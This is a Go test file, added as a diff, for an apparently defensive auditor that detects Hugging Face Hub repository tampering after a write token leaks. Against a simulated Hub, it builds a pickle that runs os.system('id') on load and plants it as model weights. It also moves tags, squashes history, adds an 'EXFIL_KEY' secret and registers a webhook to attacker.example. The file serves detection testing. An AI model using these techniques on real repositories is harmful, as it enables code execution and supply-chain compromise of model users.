@@ -1,0 +1,391 @@
+package audit
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"io"
+	"math/rand/v2"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/hfwarden/hfwarden/internal/artifact"
+	"github.com/hfwarden/hfwarden/internal/hub"
+	"github.com/hfwarden/hfwarden/internal/hubsim"
+	"github.com/hfwarden/hfwarden/internal/pin"
+)
+
+// fakeToken builds a token-shaped string at run time, so that the
+// repository's own secret scan does not trip on the tests.
+func fakeToken(seed uint64) string {
+	r := rand.New(rand.NewPCG(seed, 7))
+	var b strings.Builder
+	b.WriteString("hf_")
+	for range 34 {
+		b.WriteByte(byte('a' + r.IntN(26)))
+	}
+	return b.String()
+}
+
+// osSystemPickle is a protocol-2 pickle that calls os.system("id") when
+// loaded.
+func osSystemPickle() []byte {
+	return []byte("\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")
+}
+
+// env is a simulated Hub with one user, alice, who holds a write token and
+// owns a model, a dataset, a Space and a model nobody touches.
+type env struct {
+	t      *testing.T
+	url    string
+	c      *hub.Client
+	token  string
+	repos  []Repo
+	before time.Time
+}
+
+func newEnv(t *testing.T) *env {
+	t.Helper()
+	tok := fakeToken(1)
+	old := time.Date(2026, 1, 10, 9, 0, 0, 0, time.UTC)
+	// The window opens now; what the scenario dates later is in it.
+	before := time.Now().UTC().Add(-time.Second)
+	soon := before.Add(500 * time.Millisecond)
+	text := func(s string) *hubsim.File { return &hubsim.File{Text: s} }
+	sc := &hubsim.Scenario{
+		Users:  []hubsim.User{{Name: "alice"}, {Name: "mallory"}},
+		Tokens: []hubsim.Token{{Token: tok, User: "alice", Kind: hubsim.KindClassic, Role: "write", DisplayName: "ci"}},
+		Repos: []hubsim.Repo{
+			{ID: "alice/model", CreatedAt: old, Commits: []hubsim.Commit{
+				{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": text("# model\n"), "pytorch_model.bin": {Base64: "gAJ9cQAu"}, "old.safetensors": {Size: 64}}},
+				{Title: "Add config", Date: old.Add(time.Hour), Files: map[string]*hubsim.File{"config.json": text("{}\n")}},
+			}, Tags: map[string]string{"v1": "main"}, Discussions: []hubsim.Discussion{
+				{Title: "Old question", Author: "mallory", CreatedAt: old},
+				{Title: "Please merge", Author: "alice", IsPullRequest: true, CreatedAt: soon},
+			}},
+			{ID: "alice/data", Type: "dataset", CreatedAt: old, Commits: []hubsim.Commit{
+				{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": text("# data\n")}},
+				{Title: "Add rows", Date: old.Add(time.Hour), Files: map[string]*hubsim.File{"train.csv": text("a,b\n1,2\n")}},
+			}},
+			{ID: "alice/space", Type: "space", CreatedAt: old, Commits: []hubsim.Commit{
+				{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"app.py": text("print('hi')\n")}},
+				{Title: "Tweak", Author: "mallory", Date: soon, Files: map[string]*hubsim.File{"app.py": text("print('bye')\n")}},
+			}, Secrets: []hubsim.SpaceSetting{{Key: "OLD_SECRET", Value: "x", UpdatedAt: old}}},
+			{ID: "alice/untouched", CreatedAt: old, Commits: []hubsim.Commit{
+				{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"model.safetensors": {Size: 64}, "README.md": text("# quiet\n")}},
+			}, Tags: map[string]string{"v1": "main"}},
+		},
+	}
+	srv := hubsim.New(sc, hubsim.Options{RateLimit: -1})
+	url, stop, err := srv.Start("127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	c, err := hub.New(hub.Options{Endpoint: url, RatePerSecond: -1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &env{t: t, url: url, c: c, token: tok, before: before, repos: []Repo{
+		{hub.RepoModel, "alice/model"}, {hub.RepoDataset, "alice/data"}, {hub.RepoSpace, "alice/space"}, {hub.RepoModel, "alice/untouched"},
+	}}
+}
+
+// call makes a raw API request as the attacker, for the writes the client
+// has no method for.
+func (e *env) call(method, path string, body any) {
+	e.t.Helper()
+	var rd io.Reader
+	if body != nil {
+		b, _ := json.Marshal(body)
+		rd = bytes.NewReader(b)
+	}
+	req, err := http.NewRequest(method, e.url+path, rd)
+	if err != nil {
+		e.t.Fatal(err)
+	}
+	req.Header.Set("Authorization", "Bearer "+e.token)
+	req.Header.Set("Content-Type", "application/json")
+	res, err := http.DefaultClient.Do(req)
+	if err != nil {
+		e.t.Fatal(err)
+	}
+	defer res.Body.Close()
+	if res.StatusCode/100 != 2 {
+		msg, _ := io.ReadAll(res.Body)
+		e.t.Fatalf("%s %s: %s %s", method, path, res.Status, msg)
+	}
+}
+
+func (e *env) pins(ctx context.Context) []pin.Manifest {
+	e.t.Helper()
+	var out []pin.Manifest
+	for _, r := range e.repos {
+		m, err := pin.Snapshot(ctx, e.c, e.token, r.Type, r.ID, "main")
+		if err != nil {
+			e.t.Fatal(err)
+		}
+		out = append(out, *m)
+	}
+	return out
+}
+
+// attack plays the attacker with the leaked write token.
+func (e *env) attack(ctx context.Context) {
+	e.t.Helper()
+	// The title carries the token: findings must not.
+	if _, err := e.c.Commit(ctx, e.token, hub.RepoModel, "alice/model", "main", "Update weights "+e.token,
+		map[string][]byte{"pytorch_model.bin": osSystemPickle()}, []string{"old.safetensors"}); err != nil {
+		e.t.Fatal(err)
+	}
+	e.call(http.MethodDelete, "/api/models/alice/model/tag/v1", nil)
+	e.call(http.MethodPost, "/api/models/alice/model/tag/main", map[string]string{"tag": "v1"})
+	e.call(http.MethodPost, "/api/datasets/alice/data/super-squash/main", map[string]string{})
+	e.call(http.MethodPost, "/api/spaces/alice/space/secrets", map[string]string{"key": "EXFIL_KEY", "value": "attacker"})
+	e.call(http.MethodPost, "/api/settings/webhooks", map[string]any{
+		"url": "https://attacker.example/hook/abc?k=1", "watched": []map[string]string{{"type": "space", "name": "alice/space"}}, "domains": []string{"repo"}})
+}
+
+// kinds lists the findings' kinds per repository.
+func kinds(r *Report) map[string][]string {
+	m := map[string][]string{}
+	for _, f := range r.Findings {
+		if !slices.Contains(m[f.Repo], f.Kind) {
+			m[f.Repo] = append(m[f.Repo], f.Kind)
+		}
+	}
+	return m
+}
+
+func find(r *Report, repo, kind string) *Finding {
+	for i, f := range r.Findings {
+		if f.Repo == repo && f.Kind == kind {
+			return &r.Findings[i]
+		}
+	}
+	return nil
+}
+
+func TestRunWithPins(t *testing.T) {
+	ctx := context.Background()
+	e := newEnv(t)
+	pins := e.pins(ctx)
+	e.attack(ctx)
+	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: e.repos, Pins: pins})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := kinds(r)
+	t.Logf("findings: %v; warnings %v", got, r.Warnings)
+	want := map[string][]string{
+		"model/alice/model":  {KindCommitInWindow, KindIntegrity, KindRefChanged},
+		"dataset/alice/data": {KindCommitInWindow, KindHistoryRewritten},
+		"space/alice/space":  {KindSecretAdded, KindCommitInWindow},
+	}
+	for repo, ks := range want {
+		for _, k := range ks {
+			if !slices.Contains(got[repo], k) {
+				t.Errorf("%s: no %s finding (have %v)", repo, k, got[repo])
+			}
+		}
+	}
+	// The real inspector (artifact.Inspect) reads the downloaded pickle.
+	if f := find(r, "model/alice/model", artifact.KindUnsafePickle); f == nil || Rank(f.Severity) < Rank(High) ||
+		!strings.Contains(f.Evidence, "system") || !strings.HasPrefix(f.Path, "pytorch_model.bin") {
+		t.Errorf("unsafe-pickle = %+v", f)
+	}
+	if f := find(r, "space/alice/space", KindWebhook); f == nil || f.Severity != Medium || strings.Contains(f.Evidence, "abc") {
+		t.Errorf("webhook finding = %+v, want medium without the URL's path", f)
+	}
+	var integrity []string
+	for _, f := range r.Findings {
+		if f.Kind == KindIntegrity {
+			integrity = append(integrity, f.Repo+" "+f.Path)
+		}
+	}
+	if want := []string{"model/alice/model old.safetensors", "model/alice/model pytorch_model.bin"}; !slices.Equal(integrity, want) {
+		t.Errorf("integrity findings %q, want %q", integrity, want)
+	}
+	if f := find(r, "model/alice/model", KindCommitInWindow); f == nil || f.Author != "alice" || f.Severity != Medium || !strings.Contains(f.Evidence, "Update weights") {
+		t.Errorf("commit finding = %+v", f)
+	}
+	if f := find(r, "space/alice/space", KindSecretAdded); f == nil || f.Path != "EXFIL_KEY" || f.Severity != High {
+		t.Errorf("secret finding = %+v", f)
+	}
+	if f := find(r, "space/alice/space", KindCommitInWindow); f == nil || f.Severity != High || !strings.Contains(f.Evidence, "unexpected author mallory") {
+		t.Errorf("commit by an unexpected author = %+v", f)
+	}
+	if f := find(r, "model/alice/model", KindLFSDeleted); f == nil || f.Path != "old.safetensors" {
+		t.Errorf("lfs-deleted = %+v", f)
+	}
+	if f := find(r, "model/alice/model", KindPullRequest); f == nil || f.Ref != "#2" || f.Author != "alice" {
+		t.Errorf("pull request by the owner = %+v", f)
+	}
+	for _, f := range r.Findings {
+		if strings.Contains(f.Evidence, e.token) {
+			t.Errorf("raw token in evidence: %s", f.Kind)
+		}
+		if f.Kind == KindDiscussion {
+			t.Errorf("discussion by someone else, before the window, flagged: %+v", f)
+		}
+	}
+	if len(got["model/alice/untouched"]) != 0 {
+		t.Errorf("untouched repository has findings: %+v", got["model/alice/untouched"])
+	}
+	if len(r.Unpinned) != 0 || len(r.Checked) != 4 {
+		t.Errorf("unpinned %v, checked %v", r.Unpinned, r.Checked)
+	}
+	if r.AtLeast(High) == 0 {
+		t.Error("no finding of severity high or worse")
+	}
+	// The old secret, set before the window, is not flagged.
+	for _, f := range r.Findings {
+		if f.Path == "OLD_SECRET" {
+			t.Errorf("secret from before the window flagged: %+v", f)
+		}
+	}
+}
+
+func TestRunWithSnapshot(t *testing.T) {
+	ctx := context.Background()
+	e := newEnv(t)
+	base, err := TakeBaseline(ctx, e.c, e.token, e.repos)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.attack(ctx)
+	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: e.repos, Baseline: base})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := kinds(r)
+	t.Logf("findings: %v; warnings %v", got, r.Warnings)
+	if f := find(r, "model/alice/model", KindRefChanged); f == nil {
+		t.Error("no ref-changed for the model")
+	}
+	var tagMoved bool
+	for _, f := range r.Findings {
+		if f.Kind == KindRefChanged && f.Ref == "refs/tags/v1" && f.Repo == "model/alice/model" && f.Severity == High && strings.Contains(f.Evidence, "moved") {
+			tagMoved = true
+		}
+	}
+	if !tagMoved {
+		t.Error("moved tag v1 not flagged high")
+	}
+	if f := find(r, "dataset/alice/data", KindHistoryRewritten); f == nil || f.Severity != Critical || !strings.Contains(f.Evidence, "2 of 2") {
+		t.Errorf("history-rewritten = %+v", f)
+	}
+	if f := find(r, "space/alice/space", KindWebhook); f == nil || f.Severity != High {
+		t.Errorf("webhook unknown to the snapshot = %+v, want high", f)
+	}
+	if find(r, "model/alice/model", KindIntegrity) != nil {
+		t.Error("integrity-mismatch without a pin")
+	}
+	if len(got["model/alice/untouched"]) != 0 {
+		t.Errorf("untouched repository has findings: %+v", got["model/alice/untouched"])
+	}
+	if len(r.Unpinned) != 4 {
+		t.Errorf("unpinned = %v, want all four", r.Unpinned)
+	}
+	// The report's own snapshot is a baseline for the next audit: run
+	// again with it, and only the window's commits and the webhook remain.
+	again, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: e.repos, Baseline: r.Snapshot,
+		Inspect: func(context.Context, string, io.ReaderAt, int64) ([]artifact.Finding, error) { return nil, nil }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range again.Findings {
+		if f.Kind != KindCommitInWindow && f.Kind != KindWebhook && f.Kind != KindSecretAdded && f.Kind != KindPullRequest {
+			t.Errorf("second audit against the first one's snapshot: unexpected %+v", f)
+		}
+		if f.Kind == KindWebhook && f.Severity != Medium {
+			t.Errorf("known webhook = %s, want medium", f.Severity)
+		}
+	}
+}
+
+func TestRunWithoutBaseline(t *testing.T) {
+	ctx := context.Background()
+	e := newEnv(t)
+	e.attack(ctx)
+	var inspected []string
+	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: e.repos,
+		Inspect: func(_ context.Context, name string, ra io.ReaderAt, size int64) ([]artifact.Finding, error) {
+			b := make([]byte, size)
+			if _, err := ra.ReadAt(b, 0); err != nil && err != io.EOF {
+				return nil, err
+			}
+			inspected = append(inspected, name)
+			if bytes.Contains(b, []byte("posix\nsystem")) {
+				return []artifact.Finding{{Kind: artifact.KindUnsafePickle, Severity: artifact.SeverityCritical, Path: name, Detail: "imports posix.system"}}, nil
+			}
+			return nil, nil
+		}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !slices.Equal(inspected, []string{"pytorch_model.bin"}) {
+		t.Errorf("inspected %v, want only the changed pytorch_model.bin", inspected)
+	}
+	if f := find(r, "model/alice/model", artifact.KindUnsafePickle); f == nil || f.Severity != Critical || f.Commit == "" {
+		t.Errorf("unsafe-pickle = %+v", f)
+	}
+	// A super-squash leaves one commit titled so: seen without a baseline.
+	if f := find(r, "dataset/alice/data", KindHistoryRewritten); f == nil {
+		t.Error("super-squash not seen without a baseline")
+	}
+	if got := kinds(r)["model/alice/untouched"]; len(got) != 0 {
+		t.Errorf("untouched repository has findings: %v", got)
+	}
+	if r.Worst() != Critical {
+		t.Errorf("worst = %s", r.Worst())
+	}
+
+	// A window that closed before the attack inspects nothing and flags
+	// nothing but the standing webhook.
+	inspected = nil
+	early := time.Date(2026, 1, 10, 12, 0, 0, 0, time.UTC) // after the scenario's history
+	r, err = Run(ctx, Options{Client: e.c, Token: e.token, Since: early, Until: early.Add(24 * time.Hour), Owner: "alice", Repos: e.repos,
+		Inspect: func(_ context.Context, name string, _ io.ReaderAt, _ int64) ([]artifact.Finding, error) {
+			inspected = append(inspected, name)
+			return nil, nil
+		}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(inspected) != 0 {
+		t.Errorf("inspected %v for a window before the attack", inspected)
+	}
+	for _, f := range r.Findings {
+		if f.Kind != KindWebhook {
+			t.Errorf("early window: unexpected %+v", f)
+		}
+	}
+}
+
+func TestRunErrors(t *testing.T) {
+	ctx := context.Background()
+	e := newEnv(t)
+	if _, err := Run(ctx, Options{Client: e.c, Token: e.token}); err == nil {
+		t.Error("no error without since")
+	}
+	now := time.Now()
+	if _, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: now, Until: now.Add(-time.Hour)}); err == nil {
+		t.Error("no error for a window that ends before it starts")
+	}
+	// A repository that does not exist is a warning; the others go on.
+	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: now.Add(-time.Minute), Owner: "alice",
+		Repos: []Repo{{hub.RepoModel, "alice/gone"}, {hub.RepoModel, "alice/untouched"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(r.Warnings) != 1 || !strings.Contains(r.Warnings[0], "alice/gone") || !slices.Equal(r.Checked, []string{"model/alice/untouched"}) {
+		t.Errorf("warnings %v, checked %v", r.Warnings, r.Checked)
+	}
+	if len(r.Findings) != 0 {
+		t.Errorf("findings for an untouched repository: %+v", r.Findings)
+	}
+}
